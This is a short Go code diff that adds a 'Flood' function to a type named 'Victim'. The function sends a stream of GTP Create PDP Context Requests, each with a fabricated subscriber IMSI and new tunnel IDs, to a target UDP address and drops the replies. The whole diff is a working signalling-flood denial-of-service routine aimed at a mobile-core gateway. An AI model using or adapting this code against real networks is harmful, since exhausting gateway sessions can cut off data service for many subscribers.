@@ -237,3 +237,24 @@ func causeOf(m gtp.Message) gtp.Cause {
 	}
 	return 0
 }
+
+// Flood sends so many Create PDP Context Requests, each for another terminal, and returns how many the socket took. The answers are read
+// and dropped.
+func (v Victim) Flood(conn *net.UDPConn, to netip.AddrPort, count int) (sent int) {
+	m := v.create(gtp.DynamicAddress(gtp.PDPIPv4))
+	b := make([]byte, longestDatagram)
+	for i := range count {
+		m.IMSI = push.IMSI(fmt.Sprintf("24099%010d", i))
+		m.TEIDData, m.TEIDControl = gtp.TEID(i+1), new(gtp.TEID(i+1)|1<<31)
+		d, err := gtp.Append(nil, gtp.Header{Sequence: uint16(i)}, m)
+		if err != nil {
+			panic(err)
+		}
+		if _, err := conn.WriteToUDPAddrPort(d, to); err == nil {
+			sent++
+		}
+		_ = conn.SetReadDeadline(time.Now())
+		_, _ = conn.Read(b)
+	}
+	return sent
+}
